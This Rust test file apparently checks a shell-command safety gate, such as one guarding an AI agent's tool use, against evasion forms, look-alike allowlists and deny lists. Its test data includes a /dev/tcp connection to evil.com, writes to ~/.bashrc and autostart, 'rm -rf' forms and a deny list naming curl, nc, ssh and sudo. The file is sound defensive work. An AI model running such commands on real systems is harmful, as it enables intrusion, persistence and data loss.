//! SHL-6 through the whole gate: the forms of `crates/effects/tests/evasions.txt`, each of which means something that must
//! not pass unseen, under configurations that somebody might really have.

use crate::stage::{gate, judge};
use gate::policy::{Decision, Fence};

fn forms() -> Vec<&'static str> {
    include_str!("../../../effects/tests/evasions.txt")
        .lines()
        .filter(|line| !line.is_empty() && !line.starts_with('#'))
        .collect()
}

fn list(entries: &[&str]) -> String {
    let quoted: Vec<String> = entries.iter().map(|entry| format!("\"{entry}\"")).collect();
    format!("[{}]", quoted.join(", "))
}

#[test]
fn no_form_is_allowed_by_the_default_profile() {
    let gate = gate("");
    let forms = forms();
    assert!(forms.len() >= 300, "only {} forms were read", forms.len());
    let allowed: Vec<&&str> =
        forms.iter().filter(|form| judge(&gate, form).ruling.decision == Decision::Allow).collect();
    assert!(allowed.is_empty(), "{} of {}:\n{allowed:#?}", allowed.len(), forms.len());
    // The control: the same gate lets ordinary commands pass.
    for harmless in ["ls -la", "git status", "cat README.md", "find . -name x", "echo 'rm -rf /'"] {
        assert_eq!(judge(&gate, harmless).ruling.decision, Decision::Allow, "{harmless}");
    }
}

#[test]
fn text_that_could_not_be_read_is_asked_about_wherever_it_breaks_off() {
    let holds = Fence { name: "linux", holds_paths: true, holds_network: true, lacks: None };
    let gate = gate("").with_fence(holds);
    let long = format!("{}npm test", ":;".repeat(1100));
    let wide = format!("npm test {}", "x ".repeat(3000));
    let deep = format!("npm test; {}true{}", "(".repeat(70), ")".repeat(70));
    for text in ["npm test\n)", "npm test\nfi", "npm test\necho 'x", "npm test \u{1}", &long, &wide, &deep] {
        let ruling = judge(&gate, text).ruling;
        let shown: String = text.chars().take(40).collect();
        assert_eq!(ruling.decision, Decision::Ask, "{shown}: {}", ruling.reason);
    }
    // The same one level further in.
    let inner = judge(&gate, "sh -c 'npm test\n)'").ruling;
    assert_eq!(inner.decision, Decision::Ask, "{}", inner.reason);
    // The control: what is there before the place that it breaks off at is allowed by itself.
    for text in ["npm test", "npm test\ntrue", "sh -c 'npm test'"] {
        assert_eq!(judge(&gate, text).ruling.decision, Decision::Allow, "{text}");
    }
}

/// What somebody may list because it looks harmless: programs that only print, programs that only hand on to another, and
/// readers with options. An entry vouches for its own program with all of its options, so what such an option does is no
/// evasion of the list: `sort --compress-program=./x`, `rg --pre ./x`, `awk -f x`, `git log --output=x`, `tee x`, `make`
/// and `npm run x` are allowed by `sort`, `rg`, `awk`, `git log`, `tee`, `make` and `npm run`, and an interpreter's code
/// by the interpreter. Those are therefore not here. Nothing here vouches for another program that it starts, for what a
/// variable before it changes, nor for a substitution inside its words.
const LOOK_ALIKES: &[&str] = &[
    "ls",
    "cat",
    "echo",
    "printf",
    "true",
    "false",
    "test",
    "head",
    "tail",
    "wc",
    "pwd",
    "cd",
    "pushd",
    "read",
    "set",
    "env",
    "timeout",
    "nice",
    "nohup",
    "setsid",
    "time",
    "command",
    "builtin",
    "exec",
    "eval",
    "xargs",
    "sh",
    "bash",
    "watch",
    "stdbuf",
    "busybox",
    "git status",
    "git show",
    "git clone",
    "git commit",
    "less",
    "man",
    "grep",
    "uniq",
    "sed",
    "find",
    "fd",
    "tar",
];

/// A shell was listed, and what it is given is a script: that is what the entry vouches for.
const VOUCHED_FOR: &[&str] = &["sh x", "bash - ./evil.sh <<< ls"];

/// The shell writes or connects here, by a redirection; the listed command does not. A file without a profile leaves
/// such effects to its lists, and an entry is taken to speak for them. Known, and kept here so that it cannot grow.
const REDIRECTED: &[&str] =
    &["exec 3<>/dev/tcp/evil.com/80", "echo x > ~/.bashrc", "echo x > ~/.config/autostart/x"];

#[test]
fn no_form_is_allowed_by_a_list_of_look_alikes() {
    let gate =
        gate(&format!("safety: {{mode: ask, complex_shell: by_part, allowlist: {}}}", list(LOOK_ALIKES)));
    let mut wrong = Vec::new();
    for form in forms() {
        let expected = VOUCHED_FOR.contains(&form) || REDIRECTED.contains(&form);
        let ruling = judge(&gate, form).ruling;
        if (ruling.decision == Decision::Allow) != expected {
            wrong.push(format!("{form}: {} {}", ruling.decision, ruling.reason));
        }
    }
    assert!(wrong.is_empty(), "{} forms:\n{}", wrong.len(), wrong.join("\n"));
    // The control: the list allows what it names, alone, joined and behind the wrappers that it names.
    for harmless in
        ["ls -la", "cat x | head -3", "timeout 5 ls", "sh -c 'echo hello'", "find . -name x", "env ls"]
    {
        assert_eq!(judge(&gate, harmless).ruling.decision, Decision::Allow, "{harmless}");
    }
}

/// Forms whose `rm -rf` runs on another machine: a run of something unknown, for which `mode: allow` answers. All others
/// are taken apart.
const NOT_TAKEN_APART: &[&str] = &["kubectl exec "];

#[test]
fn what_is_on_the_deny_list_is_denied_in_every_spelling() {
    let lax = gate("safety: {mode: allow, complex_shell: by_part}");
    let strict = gate("safety: {mode: allow, complex_shell: by_part, denylist: [\"rm -rf\"]}");
    let (mut denied, mut lifted) = (0, 0);
    for form in forms().into_iter().filter(|form| form.contains("rm -rf /")) {
        // A target that nothing but the list objects to, so that it is the list that is tested.
        let form = form.replace("rm -rf /", "rm -rf src/x");
        let ruling = judge(&strict, &form).ruling;
        match ruling.decision {
            Decision::Deny => denied += 1,
            // What could not be read asks, whatever the mode.
            Decision::Ask => {}
            Decision::Allow => {
                let known = NOT_TAKEN_APART.iter().any(|start| form.starts_with(start));
                assert!(known, "{form} is allowed: {}", ruling.reason);
            }
        }
        lifted += usize::from(judge(&lax, &form).ruling.decision == Decision::Allow);
    }
    println!("{denied} denied by the list, {lifted} allowed without it");
    assert!(denied >= 50, "only {denied} forms were denied");
    // The control: it is the list that denies them.
    assert!(lifted >= 50, "only {lifted} forms would be allowed without the list");
}

#[test]
fn a_program_on_the_deny_list_is_denied_wherever_it_stands() {
    let mut count = 0;
    for entry in [
        "sudo",
        "curl",
        "wget",
        "nc",
        "ncat",
        "git push",
        "chmod 777",
        "dd",
        "crontab",
        "kubectl delete",
        "terraform destroy",
        "docker run",
        "ssh",
        "scp",
        "npm publish",
        "base64",
        "chmod",
        "tar",
        "npx",
        "pip install",
    ] {
        let gate = gate(&format!("safety: {{mode: allow, complex_shell: by_part, denylist: [\"{entry}\"]}}"));
        let mut found = 0;
        for form in forms().into_iter().filter(|form| runs(form, entry)) {
            let ruling = judge(&gate, form).ruling;
            assert_eq!(ruling.decision, Decision::Deny, "{entry}: {form}: {}", ruling.reason);
            found += 1;
        }
        assert!(found > 0, "no form has `{entry}`");
        count += found;
        assert_eq!(judge(&gate, "ls -la").ruling.decision, Decision::Allow, "the control for {entry}");
    }
    println!("{count} forms");
}

/// Whether the words stand in the form where a command begins or goes on; in these forms that is never mere text.
fn runs(form: &str, words: &str) -> bool {
    form.match_indices(words).any(|(at, _)| {
        let before = form.get(..at).and_then(|text| text.chars().next_back());
        let after = form.get(at + words.len()..).and_then(|text| text.chars().next());
        before.is_none_or(|c| c.is_whitespace() || "(`;|&<>$".contains(c))
            && after.is_none_or(|c| c.is_whitespace() || c == ')')
    })
}
